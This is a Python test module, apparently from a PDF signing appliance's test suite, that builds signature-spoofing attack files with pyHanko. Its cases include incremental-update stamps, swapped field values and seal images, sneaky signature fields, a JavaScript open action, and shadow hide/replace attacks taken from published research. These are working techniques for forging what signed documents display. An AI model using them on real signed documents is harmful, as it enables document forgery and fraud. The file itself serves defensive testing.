"""Attacks by incremental update: the signed bytes stay as they are, what people see does not.

Shadow attacks after Mladenov, Mainka, Rohlmann, Schwenk: "Shadow Attacks: Hiding and Replacing Content in Signed PDFs"
(NDSS 2021): the attacker makes the draft, honest people sign it, the attacker appends. Sneaky signature and evil
annotation after "Breaking the Specification: PDF Certification" (IEEE S&P 2021) by the same group.
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, append_signature_field

from tests.attacks.scene import Scene, form_field, look, signed_by, updated
from tests.drafts import make_draft

_PAINT = b"q 1 1 1 rg 90 300 420 260 re f Q"


def _page(writer: IncrementalPdfFileWriter | PdfFileReader) -> generic.DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0]
    assert isinstance(page, generic.DictionaryObject)
    return page


def _array(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(value) for value in values])


def stamped(scene: Scene) -> bytes:
    """Content stamped over the page after the seal."""
    return updated(scene.sealed, lambda writer: RawContent(_PAINT).add_to_page(writer, 0))


def stamped_before_the_seal(scene: Scene) -> bytes:
    """The same between the chair's signature and the seal."""
    return updated(scene.signed, lambda writer: RawContent(_PAINT).add_to_page(writer, 0))


def page_replaced(scene: Scene) -> bytes:
    """The page's content replaced by another."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        stream = generic.StreamObject(stream_data=b"BT /F1 12 Tf 100 500 Td (khac) Tj ET")
        page["/Contents"] = writer.add_object(stream)  # type: ignore[no-untyped-call]
        writer.update_container(page)

    return updated(scene.sealed, edit)


def page_added(scene: Scene) -> bytes:
    """One page more than was signed."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        tree = writer.root["/Pages"]
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): writer.root.raw_get("/Pages"),
                pdf_name("/MediaBox"): _array(0, 0, 595, 842),
            }
        )
        tree["/Kids"].append(writer.add_object(page))  # type: ignore[no-untyped-call]
        tree["/Count"] = generic.NumberObject(int(tree["/Count"]) + 1)
        writer.update_container(tree["/Kids"])
        writer.update_container(tree)

    return updated(scene.sealed, edit)


def other_number(scene: Scene) -> bytes:
    """The number's field filled anew after the seal."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        field = form_field(writer, "SoVanBan")
        field["/V"] = generic.TextStringObject("999")
        field["/AP"] = look(writer, b"1 0 0 rg 0 0 20 10 re f", 20, 10)
        writer.update_container(field)

    return updated(scene.sealed, edit)


def number_without_a_look(scene: Scene) -> bytes:
    """Only the value of the number, its drawing left to the viewer (NeedAppearances)."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        field, form = form_field(writer, "SoVanBan"), writer.root["/AcroForm"]
        field["/V"] = generic.TextStringObject("999")
        form["/NeedAppearances"] = generic.BooleanObject(True)
        writer.update_container(field)
        writer.update_container(form)

    return updated(scene.sealed, edit)


def number_filled_by_hand(scene: Scene) -> bytes:
    """Number filled in after the chair's signature, no seal over it."""
    from appliance.signing.appearance import fill_slot

    prepared, placement = scene.signing.prepared()
    signed = scene.signing.sign(prepared)
    return updated(signed, lambda writer: fill_slot(writer, placement.slots[0], "7"))


def swapped_seal_picture(scene: Scene) -> bytes:
    """Another picture in the seal's place."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        field = form_field(writer, "ConDau")
        field["/AP"] = look(writer, b"0 0 1 rg 0 0 100 100 re f", 100, 100)
        writer.update_container(field)

    return updated(scene.sealed, edit)


def free_text(scene: Scene) -> bytes:
    """Evil annotation: a note drawn over the text."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): _array(100, 400, 400, 500),
                pdf_name("/Contents"): generic.TextStringObject("Nội dung khác"),
                pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): look(writer, _PAINT, 300, 100),
            }
        )
        page = writer.root["/Pages"]["/Kids"].raw_get(0)
        writer.register_annotation(page, writer.add_object(note))  # type: ignore[no-untyped-call]

    return updated(scene.sealed, edit)


def stamped_on_a_certified_file(scene: Scene) -> bytes:
    """A stamp on a file whose author allowed notes (DocMDP 3): still not what was signed."""
    author = scene.identity("Sở Nội vụ")
    certified = signed_by(author, make_draft(), certify=True, docmdp_permissions=MDPPerm.ANNOTATE)
    return updated(certified, lambda writer: RawContent(_PAINT).add_to_page(writer, 0))


def sneaky_field(scene: Scene) -> bytes:
    """Sneaky signature: a new, empty signature field whose drawing covers the text."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Khac", box=(90, 300, 510, 560)))
        field = form_field(writer, "Khac")
        field["/AP"] = look(writer, _PAINT, 420, 260)
        writer.update_container(field)

    return updated(scene.outside, edit)


def javascript(scene: Scene) -> bytes:
    """A script that runs when the file is opened."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        action = generic.DictionaryObject(
            {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert(1)")}
        )
        writer.root["/OpenAction"] = writer.add_object(action)  # type: ignore[no-untyped-call]
        writer.update_root()

    return updated(scene.sealed, edit)


def cleared_signature(scene: Scene) -> bytes:
    """The chair's signature taken out of its field, the seal left."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        field = form_field(writer, "ChuKyLanhDao")
        del field["/V"]
        writer.update_container(field)

    return updated(scene.sealed, edit)


def evidence_with_a_stamp(scene: Scene) -> bytes:
    """An update that pretends to add validation data (DSS) and paints over the page too."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        store = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/DSS"), pdf_name("/Certs"): _array()})
        writer.root["/DSS"] = writer.add_object(store)  # type: ignore[no-untyped-call]
        writer.update_root()
        RawContent(_PAINT).add_to_page(writer, 0)

    return updated(scene.sealed, edit)


def third_signature(scene: Scene) -> bytes:
    """A trusted outsider signs once more over the seal."""
    return signed_by(scene.identity("Sở Nội vụ"), scene.sealed, field="Them")


def same_field_name(scene: Scene) -> bytes:
    """A second field called like the seal's, signed by an outsider."""
    decoy = signed_by(scene.identity("Ủy ban nhân dân xã Hòa Bình"), scene.sealed, field="Them")

    def edit(writer: IncrementalPdfFileWriter) -> None:
        field = form_field(writer, "Them")
        field["/T"] = generic.TextStringObject("ConDau")
        writer.update_container(field)

    return updated(decoy, edit)


# --- shadow attacks: the draft carries the second content before anybody signs ---------------------------------------


def _shadowed(extra: bytes = _PAINT) -> bytes:
    """A draft with a picture over its text; the picture is a form XObject of its own."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        cover = RawContent(extra, box=BoxConstraints(595, 842)).as_form_xobject()
        reference = writer.add_object(cover)  # type: ignore[no-untyped-call]
        resources = page["/Resources"]
        if "/XObject" not in resources:
            resources["/XObject"] = generic.DictionaryObject()
        resources["/XObject"][pdf_name("/Cover")] = reference
        stream = generic.StreamObject(stream_data=b"q /Cover Do Q")
        old = page.raw_get("/Contents")
        before = list(old) if isinstance(old, generic.ArrayObject) else [old]
        page["/Contents"] = generic.ArrayObject([*before, writer.add_object(stream)])  # type: ignore[no-untyped-call]
        writer.update_container(resources)
        writer.update_container(page)

    return updated(make_draft(), edit)


def _cover(data: bytes) -> generic.IndirectObject:
    reference = _page(PdfFileReader(io.BytesIO(data)))["/Resources"]["/XObject"].raw_get("/Cover")
    assert isinstance(reference, generic.IndirectObject)
    return reference


def shadow_hide(scene: Scene) -> bytes:
    """Hide: the overlay seen at signing is dropped from the page afterwards."""
    sealed = scene.sealed_over(_shadowed())

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page["/Contents"] = generic.ArrayObject(list(page["/Contents"])[:-1])
        writer.update_container(page)

    return updated(sealed, edit)


def shadow_hide_by_the_table(scene: Scene) -> bytes:
    """Hide, second variant: the overlay's object is declared free in a new cross-reference section."""
    sealed = scene.sealed_over(_shadowed())
    return with_section(sealed, {_cover(sealed).idnum: None})


def shadow_replace(scene: Scene) -> bytes:
    """Replace: an object looked at as harmless (here the overlay, as fonts in the paper) is defined anew."""
    sealed = scene.sealed_over(_shadowed(b"q Q"))
    body = b"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Length %d>>\nstream\n%s\nendstream" % (len(_PAINT), _PAINT)
    return with_section(sealed, {_cover(sealed).idnum: body})


def shadow_font(scene: Scene) -> bytes:
    """Replace, the paper's own variant: a font of the page is defined anew, so 1 reads 9."""
    sealed = scene.sealed
    fonts = _page(PdfFileReader(io.BytesIO(sealed)))["/Resources"]["/Font"]
    number = fonts.raw_get(next(iter(fonts))).idnum
    body = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[49/nine 57/one]>>>>"
    return with_section(sealed, {number: body})


def shadow_hide_and_replace(scene: Scene) -> bytes:
    """Hide and replace: a second page tree lay unused in the signed file; the update makes it the document."""
    draft = make_draft()
    hidden: list[int] = []

    def hide(writer: IncrementalPdfFileWriter) -> None:
        other = generic.StreamObject(stream_data=b"BT ET " + _PAINT)
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): _array(0, 0, 595, 842),
                pdf_name("/Contents"): writer.add_object(other),  # type: ignore[no-untyped-call]
            }
        )
        tree = generic.DictionaryObject(
            {pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(1)}
        )
        tree_reference = writer.add_object(tree)  # type: ignore[no-untyped-call]
        page["/Parent"] = tree_reference
        tree["/Kids"] = generic.ArrayObject([writer.add_object(page)])  # type: ignore[no-untyped-call]
        hidden.append(tree_reference.idnum)

    sealed = scene.sealed_over(updated(draft, hide))

    def activate(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/Pages"] = generic.IndirectObject(hidden[0], 0, writer)
        writer.update_root()

    return updated(sealed, activate)


def shadow_by_the_root(scene: Scene) -> bytes:
    """Hide and replace, second variant: the trailer names another catalogue."""
    sealed = scene.sealed
    reader = PdfFileReader(io.BytesIO(sealed))
    pages, size = reader.root.raw_get("/Pages").idnum, int(reader.trailer["/Size"])
    body = b"<</Type/Catalog/Pages %d 0 R>>" % pages
    return with_section(sealed, {size: body}, root=size)


def with_section(data: bytes, objects: dict[int, bytes | None], *, root: int | None = None) -> bytes:
    """``data`` and a classic update written by hand: objects by number, None for "free"."""
    reader = PdfFileReader(io.BytesIO(data))
    trailer = reader.trailer
    root = root or trailer.raw_get("/Root").idnum
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    lines = [b"xref\n"]
    entries = {}
    for number, body in objects.items():
        if body is None:
            entries[number] = b"0000000000 00001 f \n"
            continue
        entries[number] = b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for number, entry in sorted(entries.items()):
        lines.append(b"%d 1\n%s" % (number, entry))
    start = len(out)
    size = max(int(trailer["/Size"]), max(objects) + 1)
    out += b"".join(lines)
    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, previous, start)
    return bytes(out)
